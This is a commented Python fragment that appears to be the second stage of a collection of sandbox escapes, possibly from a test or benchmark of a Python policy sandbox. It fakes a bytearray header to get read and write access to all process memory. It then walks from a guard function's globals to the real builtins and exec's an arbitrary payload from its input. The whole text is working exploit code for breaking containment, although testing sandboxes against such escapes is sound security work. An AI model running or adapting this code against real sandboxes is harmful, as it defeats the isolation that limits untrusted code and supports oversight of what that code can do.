# What follows each escape, which has made `object_at(address)`, `place_of(object)` and `bytes_at_a_known_place(data)`: from there to
# the real builtins, and then to whatever the item says, as plain Python.
header = word(1 << 40) + word(place_of(bytearray)) + word((1 << 63) - 1) + bytes(32)
all_memory = object_at(bytes_at_a_known_place(header))

def number_at(place):
    return int.from_bytes(all_memory[place:place + 8], "little")

# A function of the policy's own holds the globals of its module, and those hold Python's builtins. `type` is such a function here.
globals_of_a_guard = number_at(place_of(type) + 16)
all_memory[globals_of_a_guard:globals_of_a_guard + 8] = word(number_at(globals_of_a_guard) + 1000)
builtins = object_at(globals_of_a_guard)["__builtins__"]
output["escaped"] = builtins["getattr"](builtins["__import__"]("sys"), "version")
builtins["exec"](json["payload"], {"__builtins__": builtins, "json": json, "output": output})
